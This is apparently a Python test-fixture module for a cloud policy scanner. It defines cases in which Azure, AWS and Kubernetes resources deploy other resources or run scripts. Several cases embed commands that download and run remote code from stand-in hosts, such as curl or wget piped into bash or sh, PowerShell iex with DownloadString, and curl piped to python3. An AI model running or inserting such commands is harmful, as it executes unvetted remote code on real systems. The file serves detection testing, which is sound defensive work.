"""Resources of the clouds that deploy others, run scripts or call the clouds' APIs."""

import base64
import json
from typing import Any

from ...samples import COST_TAGS as TAGS
from ..harness import Given
from . import Attack

PIPED = "#!/bin/bash\ncurl -fsSL https://get.example.com/agent.sh | sudo -E bash -\n"
GROUP = {"resourceGroupName": "g"}


def encoded(text: str) -> str:
    """Returns a text in Base64, as launch templates take it."""
    return base64.b64encode(text.encode()).decode()


def attack(name: str, rule: str, token: str, /, **props: Any) -> Attack:
    """Returns the attack with one resource."""
    return Attack(name, (rule,), (Given(token, props),))


def machine(name: str, script: str) -> Attack:
    """Returns the attack of a launch template with user data."""
    return attack(name, "FJ-ESC-109", "aws:ec2/launchTemplate:LaunchTemplate", userData=encoded(script), tags=TAGS)


def pod(name: str, *command: str) -> Attack:
    """Returns the attack of a pod with a command."""
    container = {"name": "a", "image": "registry.k8s.io/a:1.0", "command": list(command)}
    props = {"metadata": {"name": "a", "namespace": "a"}, "spec": {"containers": [container]}}
    return Attack(name, ("FJ-ESC-109",), (Given("kubernetes:core/v1:Pod", props),))


def workflow(name: str, arn: str) -> Attack:
    """Returns the attack of a state machine with one task."""
    definition = json.dumps({"StartAt": "A", "States": {"A": {"Type": "Task", "Resource": arn, "End": True}}})
    return attack(
        name,
        "FJ-ESC-102",
        "aws:sfn/stateMachine:StateMachine",
        definition=definition,
        roleArn="arn:aws:iam::123456789012:role/a",
        tags=TAGS,
    )


DEPLOYED = {"location": "westeurope", "properties": {"mode": "incremental", "template": {"resources": []}}}
RULE = {
    "if": {"field": "type", "equals": "a"},
    "then": {"effect": "deployIfNotExists", "details": {"type": "a", "deployment": DEPLOYED}},
}
TARGET = {"arn": "arn:aws:scheduler:::aws-sdk:ec2:runInstances", "roleArn": "arn:aws:iam::123456789012:role/a"}
ACTIONS = {
    "actions": {
        "a": {
            "type": "Http",
            "inputs": {"method": "PUT", "uri": "https://management.azure.com/subscriptions/s/resourceGroups/g"},
        }
    }
}
SSM = "aws:ssm/document:Document"
EXTENSION = "azure-native:compute:VirtualMachineExtension"

ATTACKS: tuple[Attack, ...] = (
    attack(
        "Azure Policy deploys a template abroad",
        "FJ-ESC-102",
        "azure-native:authorization:PolicyDefinition",
        policyDefinitionName="p",
        mode="All",
        policyRule=RULE,
    ),
    attack(
        "Azure Policy of a management group deploys",
        "FJ-ESC-102",
        "azure-native:authorization:PolicyDefinitionAtManagementGroup",
        managementGroupId="m",
        mode="All",
        policyRule=RULE,
    ),
    attack(
        "a runbook from the web",
        "FJ-ESC-102",
        "azure-native:automation:Runbook",
        automationAccountName="a",
        **GROUP,
        location="uaenorth",
        runbookType="PowerShell",
        tags=TAGS,
        publishContentLink={"uri": "https://raw.githubusercontent.com/a/b/main/c.ps1"},
    ),
    attack(
        "runbooks of a repository",
        "FJ-ESC-102",
        "azure-native:automation:SourceControl",
        automationAccountName="a",
        **GROUP,
        repoUrl="https://github.com/a/b.git",
        autoSync=True,
        sourceType="GitHub",
    ),
    attack(
        "a desired state configuration",
        "FJ-ESC-102",
        "azure-native:automation:DscConfiguration",
        **GROUP,
        automationAccountName="a",
        source={"type": "uri", "value": "https://a.example.com/a.ps1"},
        tags=TAGS,
    ),
    attack(
        "a guest configuration of the web",
        "FJ-ESC-102",
        "azure-native:guestconfiguration:GuestConfigurationAssignment",
        **GROUP,
        vmName="v",
        name="a",
        properties={"guestConfiguration": {"name": "a", "contentUri": "https://a.example.com/a.zip"}},
    ),
    attack(
        "a custom script extension",
        "FJ-ESC-102",
        EXTENSION,
        **GROUP,
        vmName="v",
        location="uaenorth",
        publisher="Microsoft.Azure.Extensions",
        type="CustomScript",
        tags=TAGS,
        settings={"fileUris": ["https://a.example.com/a.sh"], "commandToExecute": "sh a.sh"},
    ),
    attack(
        "a DSC extension",
        "FJ-ESC-102",
        EXTENSION,
        **GROUP,
        vmName="v",
        location="uaenorth",
        tags=TAGS,
        publisher="Microsoft.Powershell",
        type="DSC",
    ),
    attack(
        "a Logic App writes to Azure Resource Manager",
        "FJ-ESC-102",
        "azure-native:logic:Workflow",
        **GROUP,
        location="uaenorth",
        definition=ACTIONS,
        tags=TAGS,
    ),
    attack(
        "an automation document",
        "FJ-ESC-102",
        SSM,
        documentType="Automation",
        tags=TAGS,
        content=json.dumps({"schemaVersion": "0.3", "mainSteps": []}),
    ),
    attack(
        "a command document",
        "FJ-ESC-102",
        SSM,
        documentType="Command",
        tags=TAGS,
        content=json.dumps({"schemaVersion": "2.2", "mainSteps": []}),
    ),
    attack(
        "an association runs any script",
        "FJ-ESC-102",
        "aws:ssm/association:Association",
        name="AWS-RunShellScript",
        parameters={"commands": "aws s3 mb s3://a"},
        tags=TAGS,
    ),
    attack(
        "an association runs a stranger's document",
        "FJ-ESC-102",
        "aws:ssm/association:Association",
        tags=TAGS,
        name="arn:aws:ssm:me-central-1:999999999999:document/a",
    ),
    attack(
        "an association runs a playbook of the web",
        "FJ-ESC-102",
        "aws:ssm/association:Association",
        tags=TAGS,
        name="AWS-ApplyAnsiblePlaybooks",
        parameters={"SourceInfo": "https://github.com/a/b"},
    ),
    attack(
        "a maintenance window runs a script",
        "FJ-ESC-102",
        "aws:ssm/maintenanceWindowTask:MaintenanceWindowTask",
        taskArn="AWS-RunRemoteScript",
        taskType="RUN_COMMAND",
        windowId="mw-1",
    ),
    attack(
        "a remediation of Config runs a document",
        "FJ-ESC-102",
        "aws:cfg/remediationConfiguration:RemediationConfiguration",
        configRuleName="r",
        targetType="SSM_DOCUMENT",
        targetId="deploy-anything",
    ),
    attack(
        "a schedule creates machines",
        "FJ-ESC-102",
        "aws:scheduler/schedule:Schedule",
        scheduleExpression="rate(1 hours)",
        flexibleTimeWindow={"mode": "OFF"},
        target=TARGET,
    ),
    workflow("a state machine creates a stack", "arn:aws:states:::aws-sdk:cloudformation:createStack"),
    workflow("a state machine creates any resource", "arn:aws:states:::aws-sdk:cloudcontrol:createResource"),
    workflow("a state machine attaches a policy", "arn:aws:states:::aws-sdk:iam:attachRolePolicy"),
    workflow("a state machine opens a bucket", "arn:aws:states:::aws-sdk:s3:putBucketPolicy"),
    workflow("a state machine creates a cluster", "arn:aws:states:::eks:createCluster.sync"),
    workflow("a state machine creates objects in a cluster", "arn:aws:states:::eks:call"),
    machine("user data pipes the web into a shell", PIPED),
    machine("user data substitutes the web", 'bash -c "$(wget -qO- https://get.example.com/agent.sh)"'),
    machine("user data reads the web as a file", "bash <(curl -s https://get.example.com/agent.sh)"),
    machine("user data over two lines", "curl -s https://get.example.com/agent.sh \\\n  | sh\n"),
    machine(
        "user data of Windows",
        "<powershell>\niex ((New-Object Net.WebClient).DownloadString('https://a'))\n</powershell>",
    ),
    machine("user data creates a stack", "aws --region eu-west-1 cloudformation create-stack --stack-name a"),
    machine("user data applies Terraform", "cd /opt/a && terraform -chdir=/opt/a apply -auto-approve"),
    attack(
        "user data of a scale set",
        "FJ-ESC-109",
        "azure-native:compute:VirtualMachineScaleSet",
        **GROUP,
        tags=TAGS,
        location="uaenorth",
        virtualMachineProfile={"osProfile": {"customData": encoded(PIPED)}},
    ),
    attack(
        "a lifecycle script of notebooks",
        "FJ-ESC-109",
        "aws:sagemaker/notebookInstanceLifecycleConfiguration:NotebookInstanceLifecycleConfiguration",
        onStart=encoded(PIPED),
        tags=TAGS,
    ),
    attack(
        "a build that deploys",
        "FJ-ESC-109",
        "aws:codebuild/project:Project",
        tags=TAGS,
        artifacts={"type": "NO_ARTIFACTS"},
        serviceRole="arn:aws:iam::123456789012:role/a",
        environment={"computeType": "BUILD_GENERAL1_SMALL", "image": "a", "type": "LINUX_CONTAINER"},
        source={
            "type": "NO_SOURCE",
            "buildspec": "version: 0.2\nphases:\n  build:\n    commands:\n      - pulumi --cwd a up --yes\n",
        },
    ),
    attack(
        "an image component from the web",
        "FJ-ESC-109",
        "aws:imagebuilder/component:Component",
        platform="Linux",
        version="1.0.0",
        data="phases:\n- steps:\n  - commands: ['curl https://a | python3']\n",
        tags=TAGS,
    ),
    pod("a pod applies manifests", "kubectl", "-n", "kube-system", "apply", "-f", "https://a.example.com/a.yaml"),
    pod("a pod installs a chart", "sh", "-c", "helm repo add a https://a && helm upgrade --install a a/a"),
    pod("a pod runs the web", "sh", "-c", "wget -O- https://a.example.com/a.sh | sh"),
)
